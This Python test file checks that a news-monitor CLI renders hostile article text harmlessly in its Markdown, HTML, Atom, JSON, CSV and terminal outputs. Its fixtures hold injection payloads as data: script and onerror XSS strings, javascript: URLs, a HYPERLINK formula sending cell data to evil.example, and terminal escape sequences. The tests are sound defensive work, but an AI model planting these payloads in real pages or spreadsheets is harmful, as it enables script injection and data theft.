"""Page text never becomes live markup, a formula or a terminal command in any output (issue 15).

A database holding one hostile article (script and image tags, link syntax, a formula, terminal escape
sequences, a URL built to end its link early) goes through every format: the Markdown digest rendered by a
CommonMark renderer (markdown-it-py, html allowed as in most renderers), the HTML digest parsed, the Atom feed
parsed as XML, JSON checked for ``<``, CSV checked for formula cells (and ``--raw-csv`` for the verbatim
text), the terminal table checked for control characters.  Property tests drive the Markdown, HTML and Atom
renderers with arbitrary text.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import datetime, timedelta, timezone
from html.parser import HTMLParser

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from monitor.cli import cli
from monitor.query import formats
from monitor.store.db import open_writer
from monitor.store.records import ArticleRecord
from monitor.topics import load_topics

TITLE = ('=HYPERLINK("http://evil.example/?x="&A1,"Click") <script>alert(1)</script> '
         '[x](javascript:alert(1)) ![i](http://evil.example/p.png)')
TEXT = ("<img src=x onerror=alert(1)> Kazakhstan and the United States met. <http://evil.example/> "
        "[click me](http://evil.example/) &lt;b&gt; *bold* `code` \x1b]0;pwned\x07\x1b[31mred\x0c\n") * 5
EVIL_URL = "https://evil.example/a)<img src=x onerror=alert(2)>\"'x"
TITLE_2 = "-1+2 </script><!--"
TEXT_2 = "@SUM(1+1) Kazakhstan and the United States " * 20


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "h.db"
    now = datetime.now(timezone.utc)
    with open_writer(path) as storage:
        storage.set_topics(load_topics())
        crawl = storage.start_crawl(["evil"])
        storage.crawl_id = crawl
        storage.write_batch([ArticleRecord(url=EVIL_URL, source="evil", language="en<b>", title=TITLE, text=TEXT,
                                           published=(now - timedelta(hours=1)).isoformat())])
        storage.write_batch([ArticleRecord(url="javascript:alert(3)//", source="evil", language="en", title=TITLE_2,
                                           text=TEXT_2, published=(now - timedelta(hours=2)).isoformat())])
        storage.finish_crawl(crawl, "finished", {})
    return path


def run(*args):
    result = CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


class Tags(HTMLParser):
    """Every start tag with its attributes, and the text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def tags_of(html: str) -> Tags:
    parser = Tags()
    parser.feed(html)
    parser.close()
    return parser


def assert_no_live_markup(html: str, allowed: set[str], links: int | None = None) -> Tags:
    parsed = tags_of(html)
    names = {t for t, _ in parsed.tags}
    assert names <= allowed, f"unexpected elements {names - allowed}"
    for tag, attrs in parsed.tags:
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
        if "href" in attrs:
            assert re.match(r"^(https?://|#$)", attrs["href"]), attrs["href"]
            assert "<" not in attrs["href"] and " " not in attrs["href"], attrs["href"]
        assert "src" not in attrs, (tag, attrs)
    if links is not None:
        assert sum(1 for t, _ in parsed.tags if t == "a") == links
    return parsed


def commonmark(md: str) -> str:
    return MarkdownIt("commonmark").render(md)   # raw HTML enabled, as in most renderers: it would pass through


MD_ELEMENTS = {"h1", "h2", "p", "em", "strong", "ul", "li", "a"}
HTML_ELEMENTS = {"html", "head", "meta", "title", "body", "div", "h1", "h2", "a", "p", "span"}


def test_markdown_digest_renders_page_text_as_text(hostile_db):
    md = run("digest", "--db", hostile_db, "--since", "1d")
    assert "<" not in md and "\x1b" not in md and "\x07" not in md
    parsed = assert_no_live_markup(commonmark(md), MD_ELEMENTS, links=2)
    text = " ".join(parsed.text)
    assert "<script>alert(1)</script>" in text and "[x](javascript:alert(1))" in text   # shown, as text
    assert "<img src=x onerror=alert(1)>" in text and "&lt;b&gt;" in text and "*bold* `code`" in text
    assert "=HYPERLINK" in text and "-1+2 </script><!--" in text


def test_markdown_link_target_cannot_end_early(hostile_db):
    md = run("digest", "--db", hostile_db, "--since", "1d")
    hrefs = [a["href"] for t, a in tags_of(commonmark(md)).tags if t == "a"]
    assert hrefs[0].startswith("https://evil.example/a%29%3Cimg%20src=x%20onerror=alert%282%29%3E")
    assert "#" in hrefs                                            # the javascript: URL is no link


# the coverage chart of the HTML digest: a static SVG made by pygal (monitor/query/charts.py), scripts removed
SVG_ELEMENTS = {"svg", "defs", "style", "g", "rect", "path", "circle", "text", "desc", "title"}


def test_html_digest(hostile_db):
    html = run("digest", "--db", hostile_db, "--since", "1d", "--format", "html")
    charts = importlib.util.find_spec("pygal") is not None
    parsed = assert_no_live_markup(html, HTML_ELEMENTS | (SVG_ELEMENTS if charts else set()), links=4)
    assert "<script>alert(1)</script>" in " ".join(parsed.text)
    assert ("<svg" in html) == charts                   # the chart is there (and passed the checks above)


def test_atom_feed(hostile_db):
    xml = run("feed", "--db", hostile_db, "--topic", "kz-us")
    root = ET.fromstring(xml)                                      # well-formed: no control character left
    ns = {"a": "http://www.w3.org/2005/Atom"}
    titles = [e.findtext("a:title", namespaces=ns) for e in root.findall("a:entry", ns)]
    assert TITLE in titles and TITLE_2 in titles                   # the text itself, escaped only for XML
    links = [e.find("a:link", ns).get("href") for e in root.findall("a:entry", ns)]
    assert sorted(links) == ["#", EVIL_URL]
    summary = root.find("a:entry", ns).findtext("a:summary", namespaces=ns)
    assert "\x1b" not in summary and "\x0c" not in summary and "]0;pwned" in summary
    assert {el.tag.split("}")[1] for el in root.iter()} <= {"feed", "id", "title", "subtitle", "updated",
                                                             "generator", "author", "name", "link", "entry",
                                                             "published", "category", "summary"}


@pytest.mark.parametrize("args, expected", [(["search", "kazakhstan", "--format", "json"], TITLE),
                                            (["digest", "--since", "1d", "--format", "json"], TITLE),
                                            (["stats", "--format", "json"], "en<b>"), (["export"], TITLE)])
def test_json_can_sit_inside_an_html_script_element(hostile_db, args, expected):
    out = run(*args, "--db", hostile_db)
    assert not set("<>&") & set(out), "JSON output with a raw < > or &"
    assert "</script" not in out.lower() and "<!--" not in out
    values = [json.loads(line) for line in out.splitlines()] if args == ["export"] else [json.loads(out)]
    assert expected in _strings(values)                            # the same data once parsed


def _strings(value) -> set[str]:
    if isinstance(value, str):
        return {value}
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return set().union(*(_strings(v) for v in items)) if items else set()


def _csv_rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_neutralises_formulas(hostile_db):
    rows = {r["url"]: r for r in _csv_rows(run("export", "--db", hostile_db, "--format", "csv"))}
    first, second = rows[EVIL_URL], rows["javascript:alert(3)//"]
    assert first["title"] == "'" + TITLE and second["title"] == "'" + TITLE_2
    assert second["text"].startswith("'@SUM(1+1)")
    assert first["text"].startswith("<img")                         # not a formula start: left alone
    assert int(first["id"]) > 0 and int(first["copies"]) == 0        # numbers stay numbers
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(formats.FORMULA_START), value
    raw = {r["url"]: r for r in _csv_rows(run("export", "--db", hostile_db, "--format", "csv", "--raw-csv"))}
    assert raw[EVIL_URL]["title"] == TITLE and raw["javascript:alert(3)//"]["text"].startswith("@SUM")


def test_csv_search_neutralises_formulas_but_not_ranks(hostile_db):
    rows = _csv_rows(run("search", "kazakhstan", "--db", hostile_db, "--format", "csv"))
    assert {r["title"] for r in rows} == {"'" + TITLE, "'" + TITLE_2}
    assert all(float(r["rank"]) <= 0 for r in rows)                # bm25 ranks (<= 0) stay numbers
    raw = _csv_rows(run("search", "kazakhstan", "--db", hostile_db, "--format", "csv", "--raw-csv"))
    assert {r["title"] for r in raw} == {TITLE, TITLE_2}


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), (None, ""), (-3.5, "-3.5"), (-2, "-2"), (["-a", "b"], "'-a,b"),
])
def test_csv_cell(value, expected):
    assert formats.csv_cell(value) == expected
    assert formats.csv_cell(value, raw=True) == formats._cell(value)


def test_terminal_tables_drop_control_characters(hostile_db):
    for args in (["search", "kazakhstan OR met"], ["stats"], ["digest", "--since", "1d"]):
        out = run(*args, "--db", hostile_db)
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", out), (args, out)


# --------------------------------------------------------------------------- properties of the renderers

PROPS = settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
_hostile = st.one_of(
    st.text(max_size=80),
    st.lists(st.sampled_from(["<", ">", "&", "[", "]", "(", ")", "!", "*", "_", "`", "\\", "#", "-", "+", "=",
                              "|", "\n", " ", "<script>", "</p>", "<img src=x onerror=y>", "javascript:",
                              "<http://e.x/>", "&amp;", "&#60;", "1.", "---", "    ", "a", "\x1b[2J", "\u2028"]),
             max_size=25).map("".join),
)


def _digest(title, paragraph, url, language, source):
    article = {"id": 1, "title": title, "url": url, "source": source, "date": "2026-01-01 00:00:00",
               "duplicate_of": None}
    return {"generated_at": "2026-01-01 00:00:00", "since": None, "until": None, "topic": None, "story_count": 1,
            "article_count": 1, "source_count": 1,
            "stories": [{"story": 1, "title": title, "url": url, "date": "2026-01-01 00:00:00",
                         "updated": "2026-01-01 00:00:00", "first_paragraph": paragraph, "source_count": 1,
                         "sources": [source], "article_count": 1, "duplicate_count": 0,
                         "languages": [language, "xx"], "topics": ["kz-us"],
                         "editions": [{"language": language, "title": title, "articles": [article]}]}]}


@PROPS
@given(title=_hostile, paragraph=_hostile, url=st.one_of(_hostile, _hostile.map(lambda s: "https://e.x/" + s)),
       language=_hostile, source=_hostile)
def test_markdown_digest_never_has_live_markup(title, paragraph, url, language, source):
    md = formats.render_digest(_digest(title, paragraph, url, language, source), "md")
    assert "<" not in md
    assert_no_live_markup(commonmark(md), MD_ELEMENTS, links=1)


@PROPS
@given(title=_hostile, paragraph=_hostile, url=st.one_of(_hostile, _hostile.map(lambda s: "https://e.x/" + s)),
       language=_hostile, source=_hostile)
def test_html_digest_never_has_live_markup(title, paragraph, url, language, source):
    html = formats.render_digest(_digest(title, paragraph, url, language, source), "html")
    assert_no_live_markup(html, HTML_ELEMENTS, links=2)


@PROPS
@given(title=_hostile, summary=_hostile, url=_hostile, author=_hostile)
def test_atom_feed_is_always_well_formed(title, summary, url, author):
    feed = {"topic": "kz-us", "description": summary, "updated": "2026-01-01 00:00:00", "entries": [
        {"url": url, "title": title, "date": "2026-01-01 00:00:00", "updated": "2026-01-01 00:00:00",
         "author": author, "source": "s", "language": title, "summary": summary}]}
    root = ET.fromstring(formats.render_atom(feed, self_url=url))
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert len(root.findall("a:entry", ns)) == 1
    assert root.find("a:entry/a:link", ns).get("href") in ("#", url)


@PROPS
@given(value=st.recursive(st.one_of(st.none(), st.integers(), st.floats(allow_nan=False), _hostile),
                          lambda children: st.lists(children, max_size=4)
                          | st.dictionaries(_hostile, children, max_size=4), max_leaves=10))
def test_json_output_is_the_same_data_without_raw_markup_characters(value):
    text = formats._json(value)
    assert not set("<>&\u2028\u2029") & set(text)
    assert json.loads(text) == value
